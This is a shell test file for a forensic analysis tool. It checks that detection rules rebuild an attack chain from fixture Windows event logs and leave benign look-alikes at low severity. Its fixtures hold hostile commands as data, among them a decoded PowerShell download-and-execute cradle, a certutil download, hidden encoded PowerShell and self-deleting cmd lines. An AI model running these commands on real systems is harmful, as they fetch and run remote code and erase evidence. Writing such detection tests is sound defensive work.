#!/bin/sh
# t3001-analyze-rules.sh - every analysis rule on fixture cases: the
# reference story in miniature must give its seven chain steps in order with
# the right times, and the benign look-alikes (an earlier updater run, a
# browser updater, admin PowerShell, an installer deleting its temporary
# files, a 'ping -n' loop) must not give any high-severity finding.
. "$TOP_SRCDIR/tests/t/lib.sh"
. "$TOP_SRCDIR/tests/t/analysis-fixture.sh"

test_expect_success 'the reference fixture analyses' '
	fx_reference ref.db &&
	casetrail analyze ref.db >out &&
	test_grep "chain 1 (high)" out
'

test_expect_success 'process model: Sysmon 1 + Security 4688 make one process, parents linked' '
	test "$(sql ref.db "SELECT count(*) FROM process WHERE pid = 7012")" = 1 &&
	test "$(sql ref.db "SELECT count(*) FROM process_record pr JOIN process p ON p.id = pr.process_id WHERE p.pid = 7012")" = 2 &&
	test "$(sql ref.db "SELECT q.pid FROM process p JOIN process q ON q.id = p.parent_id WHERE p.pid = 7012")" = 6644 &&
	test "$(sql ref.db "SELECT q.pid FROM process p JOIN process q ON q.id = p.parent_id WHERE p.pid = 6644")" = 5120 &&
	test "$(sql ref.db "SELECT end_record_id FROM process WHERE pid = 6644")" = 58 &&
	test "$(sql ref.db "SELECT count(*) FROM process_activity a JOIN process p ON p.id = a.process_id WHERE p.pid = 5120 AND a.kind = \"connect\"")" = 1
'

cat >expected-steps <<EOF
updater-run|2024-03-13T14:00:00.5000000Z|high
suspicious-connection|2024-03-13T14:02:11.4000000Z|high
updater-download|2024-03-13T14:02:13.2000000Z|high
updater-started-download|2024-03-13T14:02:15.6000000Z|high
powershell|2024-03-13T14:02:17.0120000Z|high
suspicious-connection|2024-03-13T14:02:18.9000000Z|high
self-deletion|2024-03-13T14:02:25.2000000Z|high
EOF

test_expect_success 'the chain has the seven steps in order with their times' '
	sql ref.db "SELECT f.rule, strftime(\"%Y-%m-%dT%H:%M:%S\", f.first_ts / 10000000 - 11644473600, \"unixepoch\") || \".\" || printf(\"%07d\", f.first_ts % 10000000) || \"Z\", f.severity FROM chain_step s JOIN finding f ON f.id = s.finding_id WHERE s.chain_id = 1 ORDER BY s.seq" >steps &&
	test_cmp expected-steps steps
'

test_expect_success 'the narrative tells the story in time order, citing records' '
	sql ref.db "SELECT text FROM narrative WHERE chain_id = 1 ORDER BY seq" >story &&
	test "$(wc -l <story)" = 8 &&
	test_grep "^At 2024-03-13 14:00:00 UTC the Task Scheduler started the QuillEdit updater QEUpdate.exe (PID 5120)" story &&
	test_grep "^At 2024-03-13 14:02:11 UTC .*5.39.218.205 on port 80, an address listed in the threat report" story &&
	test_grep "^At 2024-03-13 14:02:15 UTC .*started qeupdate_helper.exe (PID 6644), a file it had written 2 seconds earlier" story &&
	test_grep "decoded, the command reads \"IEX (New-Object Net.WebClient).DownloadString(.http://176.53.118.131/logo.png.)\"" story &&
	test_grep "^At 2024-03-13 14:02:25 UTC qeupdate_helper.exe started \"cmd.exe /c ping.*\" to delete its own file after a delay\.$" story &&
	test_grep "^At 2024-03-13 14:02:27 UTC cmd.exe deleted C:.*qeupdate_helper.exe; the file is gone from its folder but MFT entry 1234 still holds it, and its recovered content has SHA-256 5d1f4c2e" story &&
	sql ref.db "SELECT ts FROM narrative WHERE chain_id = 1 ORDER BY seq" >times &&
	sort -n times | cmp - times &&
	test "$(sql ref.db "SELECT count(*) FROM narrative n WHERE NOT EXISTS (SELECT 1 FROM narrative_evidence e WHERE e.narrative_id = n.id)")" = 0 &&
	test "$(sql ref.db "SELECT count(*) FROM finding f WHERE NOT EXISTS (SELECT 1 FROM finding_evidence e WHERE e.finding_id = f.id)")" = 0
'

test_expect_success 'PowerShell: decoded command and signs are kept in details' '
	sql ref.db "SELECT json_extract(details, \"\$.decoded\") FROM finding WHERE rule = \"powershell\" AND severity = \"high\"" >decoded &&
	test_grep "^IEX (New-Object Net.WebClient).DownloadString" decoded &&
	sql ref.db "SELECT attack FROM finding WHERE rule = \"powershell\" AND severity = \"high\"" >attack &&
	test_grep "T1059.001,T1027" attack &&
	test_grep "T1105" attack
'

test_expect_success 'IOC hits are findings; the hash hit names the deleted file' '
	test "$(sql ref.db "SELECT count(*) FROM finding WHERE rule = \"ioc-hit\"")" = 3 &&
	sql ref.db "SELECT title FROM finding WHERE rule = \"ioc-hit\" AND title LIKE \"%sha256%\"" >hash &&
	test_grep "including a deleted file" hash &&
	test "$(sql ref.db "SELECT count(*) FROM finding WHERE title LIKE \"%<sha1>%\"")" = 0
'

test_expect_success 'self-deletion cites the process, the command, the delete event, USN and MFT' '
	sql ref.db "SELECT e.record_id FROM finding_evidence e JOIN finding f ON f.id = e.finding_id WHERE f.rule = \"self-deletion\" ORDER BY 1" >ev &&
	printf "53\n56\n58\n59\n70\n71\n" >expected-ev &&
	test_cmp expected-ev ev
'

test_expect_success 'benign look-alikes: no high-severity finding' '
	sql ref.db "SELECT f.rule, f.title FROM finding f WHERE f.severity IN (\"high\", \"critical\") AND f.first_ts < 133547328000000000" >benign-high &&
	test ! -s benign-high &&
	test "$(sql ref.db "SELECT severity FROM finding WHERE rule = \"updater-run\" AND title LIKE \"%PID 4312%\"")" = low &&
	test "$(sql ref.db "SELECT severity FROM finding WHERE rule = \"updater-run\" AND title LIKE \"%Google%\"")" = info &&
	test "$(sql ref.db "SELECT count(*) FROM finding WHERE rule = \"powershell\" AND severity = \"info\"")" = 2 &&
	test "$(sql ref.db "SELECT count(*) FROM finding WHERE rule = \"self-deletion\"")" = 1
'

test_expect_success 're-running gives the same rows' '
	dump() { sql ref.db "SELECT * FROM finding; SELECT * FROM finding_evidence; SELECT * FROM finding_entity; SELECT * FROM chain; SELECT * FROM chain_step; SELECT * FROM narrative; SELECT * FROM narrative_evidence; SELECT * FROM process; SELECT * FROM process_activity"; } &&
	dump >run1 &&
	casetrail analyze -q ref.db &&
	dump >run2 &&
	test_cmp run1 run2
'

test_expect_success 'analysis updates when evidence is added' '
	test "$(sql ref.db "SELECT count(*) FROM finding WHERE rule = \"log-cleared\"")" = 0 &&
	printf "%s\n" "INSERT INTO ev (rid, ts, src, eid, chan, data) VALUES (80, \"2024-03-13 14:10:00.0000000\", 102, 1102, \"Security\", json_object(\"SubjectDomainName\", \"CORP\", \"SubjectUserName\", \"jdoe\")), (81, \"2024-03-13 14:11:00.0000000\", 102, 1100, \"Security\", \"{}\");" | fx_sql ref.db &&
	casetrail analyze -q ref.db &&
	test "$(sql ref.db "SELECT count(*) FROM finding WHERE rule = \"log-cleared\"")" = 1 &&
	sql ref.db "SELECT title FROM finding WHERE rule = \"log-cleared\"" >lc &&
	test_grep "Security log cleared by CORP.jdoe$" lc &&
	sql ref.db "SELECT statement FROM finding WHERE rule = \"log-cleared\"" >lcs &&
	test_grep "an event log was cleared by jdoe$" lcs
'

cat >lol.sql <<'EOF'
INSERT INTO ev (rid, ts, src, eid, chan, image, cmd, pid, guid) VALUES
 (1, '2024-03-13 09:00:00.0000000', 101, 1, 'S', 'C:\Windows\System32\certutil.exe', 'certutil -urlcache -split -f http://198.51.100.7/a.exe a.exe', 100, '{a}'),
 (2, '2024-03-13 09:01:00.0000000', 101, 1, 'S', 'C:\Windows\System32\certutil.exe', 'certutil -hashfile a.exe SHA256', 101, '{b}'),
 (3, '2024-03-13 09:02:00.0000000', 101, 1, 'S', 'C:\Windows\System32\bitsadmin.exe', 'bitsadmin /list', 102, '{c}');
EOF

test_expect_success 'lolbin-download: certutil -urlcache yes, certutil -hashfile no' '
	fx_case lol.db &&
	fx_sql lol.db <lol.sql &&
	casetrail analyze -q lol.db &&
	test "$(sql lol.db "SELECT count(*) FROM finding WHERE rule = \"lolbin-download\"")" = 1 &&
	test "$(sql lol.db "SELECT e.record_id FROM finding_evidence e JOIN finding f ON f.id = e.finding_id WHERE f.rule = \"lolbin-download\"")" = 1
'

cat >sec.sql <<'EOF'
INSERT INTO ev (rid, ts, src, eid, chan, image, cmd, pid, pimage, ppid) VALUES
 (1, '2024-03-13 09:00:00.0000000', 102, 4688, 'Security', 'C:\Users\bob\AppData\Roaming\x\drop.exe', 'drop.exe', 300, 'C:\Windows\explorer.exe', 200),
 (2, '2024-03-13 09:00:05.0000000', 102, 4688, 'Security', 'C:\Windows\System32\cmd.exe', 'cmd /c choice /t 5 /d y /n >nul & erase drop.exe', 310, 'C:\Users\bob\AppData\Roaming\x\drop.exe', 300),
 (3, '2024-03-13 09:00:06.0000000', 102, 4688, 'Security', 'C:\Windows\System32\cmd.exe', 'cmd /c ping -n 6 127.0.0.1 & C:\Windows\TEMP\update.bat', 320, 'C:\Windows\explorer.exe', 200),
 (4, '2024-03-13 09:01:00.0000000', 102, 4688, 'Security', 'C:\Windows\System32\cmd.exe', 'cmd /c del /q C:\Users\bob\old.exe', 330, 'C:\Windows\explorer.exe', 200);
EOF

test_expect_success 'self-deletion without Sysmon: 4688 command line plus USN; plain deletes are not' '
	fx_case sec.db &&
	fx_sql sec.db <sec.sql &&
	sqlite3 sec.db "INSERT INTO record (id, source_id, type, locator, summary) VALUES (9, 103, \"usn\", \"USN 0x10\", \"drop.exe FILE_DELETE\");
	  INSERT INTO usn (record_id, usn, major, ts, reason, reasons, name, path) VALUES (9, 16, 2, 133548057110000000, 512, \"FILE_DELETE|CLOSE\", \"drop.exe\", \"/Users/bob/AppData/Roaming/x/drop.exe\");" &&
	casetrail analyze -q sec.db &&
	test "$(sql sec.db "SELECT count(*) FROM finding WHERE rule = \"self-deletion\"")" = 1 &&
	test "$(sql sec.db "SELECT confidence FROM finding WHERE rule = \"self-deletion\"")" = high &&
	sql sec.db "SELECT record_id FROM finding_evidence e JOIN finding f ON f.id = e.finding_id WHERE f.rule = \"self-deletion\" ORDER BY 1" >ev &&
	printf "1\n2\n9\n" >expected &&
	test_cmp expected ev
'

cat >heur.sql <<'EOF'
INSERT INTO ev (rid, ts, src, eid, chan, image, cmd, pid, guid, pimage, ppid, pguid) VALUES
 (1, '2024-03-13 09:00:00.0000000', 101, 1, 'S', 'C:\Windows\System32\services.exe', 'services.exe', 600, '{s}', NULL, 4, NULL),
 (2, '2024-03-13 09:01:00.0000000', 101, 1, 'S', 'C:\Program Files\Acme\AcmeUpd.exe', 'AcmeUpd.exe', 700, '{u}', 'C:\Windows\System32\services.exe', 600, '{s}'),
 (3, '2024-03-13 09:02:00.0000000', 101, 1, 'S', 'C:\Program Files\Acme\Acme.exe', 'Acme.exe', 800, '{n}', 'C:\Windows\System32\services.exe', 600, '{s}');
EOF

test_expect_success 'updater heuristics: unknown Program Files updater started by a service' '
	fx_case heur.db &&
	fx_sql heur.db <heur.sql &&
	casetrail analyze -q heur.db &&
	test "$(sql heur.db "SELECT count(*) FROM finding WHERE rule = \"updater-run\"")" = 1 &&
	sql heur.db "SELECT title FROM finding WHERE rule = \"updater-run\"" >t &&
	test_grep "software updater run (AcmeUpd.exe, PID 700)" t
'

test_expect_success 'the knowledge file can be replaced; a bad one is refused' '
	printf "name acme.exe  Acme updater\n" >k.txt &&
	casetrail analyze -q --knowledge k.txt heur.db &&
	sql heur.db "SELECT title FROM finding WHERE rule = \"updater-run\" ORDER BY id" >t &&
	test_grep "Acme updater run (Acme.exe, PID 800)" t &&
	printf "nonsense here\n" >bad.txt &&
	test_must_fail casetrail analyze --knowledge bad.txt heur.db 2>err &&
	test_grep "bad.txt.*line 1" err &&
	test "$(sql heur.db "SELECT count(*) FROM finding WHERE rule = \"updater-run\"")" = 2
'

cat >secupd.sql <<EOF
INSERT INTO ev (rid, ts, src, eid, chan, image, cmd, pid, pimage, ppid) VALUES
 (1, '2024-03-13 10:00:00.0000000', 102, 4688, 'Security', 'C:\Program Files (x86)\QuillEdit\QEUpdate.exe', 'QEUpdate.exe /check', 900, 'C:\Windows\System32\svchost.exe', 500),
 (2, '2024-03-13 10:00:30.0000000', 102, 4688, 'Security', 'C:\Users\bob\AppData\Local\Temp\x\helper.exe', 'helper.exe', 910, 'C:\Program Files (x86)\QuillEdit\QEUpdate.exe', 900),
 (3, '2024-03-13 10:00:35.0000000', 102, 4688, 'Security', 'C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe', 'powershell -w hidden -enc $FX_ENC', 920, 'C:\Users\bob\AppData\Local\Temp\x\helper.exe', 910);
EOF

test_expect_success 'updater without Sysmon: the USN journal shows it wrote what it started' '
	fx_case secupd.db &&
	fx_sql secupd.db <secupd.sql &&
	sqlite3 secupd.db "INSERT INTO record (id, source_id, type, locator, summary) VALUES (9, 103, \"usn\", \"USN 0x20\", \"helper.exe FILE_CREATE\");
	  INSERT INTO usn (record_id, usn, major, ts, reason, reasons, name, path) VALUES (9, 32, 2, 133547976200000000, 256, \"FILE_CREATE\", \"helper.exe\", \"/Users/bob/AppData/Local/Temp/x/helper.exe\");" &&
	casetrail analyze -q secupd.db &&
	test "$(sql secupd.db "SELECT severity FROM finding WHERE rule = \"updater-run\"")" = high &&
	test "$(sql secupd.db "SELECT count(*) FROM finding f JOIN finding_evidence e ON e.finding_id = f.id WHERE f.rule = \"updater-started-download\" AND e.record_id = 9")" = 1 &&
	sql secupd.db "SELECT text FROM narrative ORDER BY id" >story &&
	test_grep "svchost.exe started the QuillEdit updater QEUpdate.exe (PID 900)" story &&
	test_grep "started helper.exe (PID 910), a file that had appeared 10 seconds earlier" story &&
	test_grep "helper.exe appeared in C:.Users.bob.AppData.Local.Temp.x., a user-writable folder, during the run of the QuillEdit updater QEUpdate.exe (USN journal FILE_CREATE; no log records the writer)" story
'

test_expect_success 'Prefetch run then USN deletion: a low-severity lead, not self-deletion' '
	fx_case pf.db &&
	sqlite3 pf.db "INSERT INTO record (id, source_id, type, locator, summary) VALUES
	    (1, 103, \"prefetch\", \"DROP.EXE-1A2B3C4D.pf\", \"DROP.EXE ran\"),
	    (2, 103, \"usn\", \"USN 0x30\", \"DROP.EXE FILE_DELETE\"),
	    (3, 103, \"prefetch\", \"TOOL.EXE-5E6F7A8B.pf\", \"TOOL.EXE ran\"),
	    (4, 103, \"usn\", \"USN 0x40\", \"TOOL.EXE FILE_DELETE\");
	  INSERT INTO event (record_id, ts, ts_desc) VALUES (1, 133547976000000000, \"program run\"),
	    (3, 133547976000000000, \"program run\");
	  INSERT INTO prefetch (record_id, executable, run_count, last_run, run_times, files) VALUES
	    (1, \"DROP.EXE\", 1, 133547976000000000, \"[133547976000000000]\",
	     json_array(\"\\VOLUME{01d9a1b2c3d4e5f6-1a2b3c4d}\\USERS\\BOB\\DOWNLOADS\\DROP.EXE\")),
	    (3, \"TOOL.EXE\", 1, 133547976000000000, \"[133547976000000000]\",
	     json_array(\"\\VOLUME{01d9a1b2c3d4e5f6-1a2b3c4d}\\USERS\\BOB\\DOWNLOADS\\TOOL.EXE\"));
	  INSERT INTO usn (record_id, usn, major, ts, reason, reasons, name, path) VALUES
	    (2, 48, 2, 133547976300000000, 2147484160, \"FILE_DELETE|CLOSE\", \"DROP.EXE\", \"/Users/bob/Downloads/DROP.EXE\"),
	    (4, 64, 2, 133548048000000000, 2147484160, \"FILE_DELETE|CLOSE\", \"TOOL.EXE\", \"/Users/bob/Downloads/TOOL.EXE\");" &&
	casetrail analyze -q pf.db &&
	test "$(sql pf.db "SELECT count(*) FROM process WHERE origin = \"prefetch\"")" = 2 &&
	test "$(sql pf.db "SELECT count(*) FROM finding WHERE rule = \"self-deletion\"")" = 0 &&
	test "$(sql pf.db "SELECT severity || \" \" || confidence FROM finding WHERE rule = \"deleted-after-run\"")" = "low low" &&
	sql pf.db "SELECT title FROM finding WHERE rule = \"deleted-after-run\"" >t &&
	test_grep "DROP.EXE was deleted 30 s after it ran" t &&
	sql pf.db "SELECT e.record_id FROM finding_evidence e JOIN finding f ON f.id = e.finding_id WHERE f.rule = \"deleted-after-run\" ORDER BY 1" >ev &&
	printf "1\n2\n" >expected &&
	test_cmp expected ev
'

# BITS rows with the columns the parser's mapping gives them (job id and
# name, the job owner's image and PID, the URL) beside their fields.
cat >bits.sql <<'EOF'
INSERT INTO ev (rid, ts, src, eid, chan, image, pid, data) VALUES
 (1, '2024-03-13 11:00:00.0000000', 101, 3, 'Microsoft-Windows-Bits-Client/Operational',
  'C:\Users\bob\AppData\Local\Microsoft\OneDrive\OneDriveStandaloneUpdater.exe', 6104,
  json_object('jobTitle', 'upd', 'jobId', '{J1}', 'processPath', 'C:\Users\bob\AppData\Local\Microsoft\OneDrive\OneDriveStandaloneUpdater.exe', 'processId', '6104')),
 (2, '2024-03-13 11:00:01.0000000', 101, 59, 'Microsoft-Windows-Bits-Client/Operational', NULL, NULL,
  json_object('Id', '{J1}', 'url', 'https://g.live.example/odsu.xml', 'name', 'C:\Users\bob\AppData\Local\Temp\odsu.xml')),
 (3, '2024-03-13 11:00:02.0000000', 101, 59, 'Microsoft-Windows-Bits-Client/Operational', NULL, NULL,
  json_object('Id', '{OTHER}', 'url', 'https://other.example/x', 'name', 'C:\x'));
EOF

test_expect_success 'BITS: transfers belong to the process that created the job' '
	fx_case bits.db &&
	fx_sql bits.db <bits.sql &&
	sqlite3 bits.db "UPDATE evtx SET job_id = json_extract(data, '\''$.jobId'\''), job_name = json_extract(data, '\''$.jobTitle'\'') WHERE event_id = 3; UPDATE evtx SET job_id = json_extract(data, '\''$.Id'\''), job_name = json_extract(data, '\''$.name'\''), url = json_extract(data, '\''$.url'\'') WHERE event_id = 59" &&
	casetrail analyze -q bits.db &&
	test "$(sql bits.db "SELECT origin || \" \" || pid FROM process")" = "bits 6104" &&
	test "$(sql bits.db "SELECT kind || \" \" || target FROM process_activity")" = "bits https://g.live.example/odsu.xml" &&
	sql bits.db "SELECT severity, description FROM finding WHERE rule = \"updater-run\"" >u &&
	test_grep "^info|.*Contacted: https://g.live.example/odsu.xml" u
'

test_done
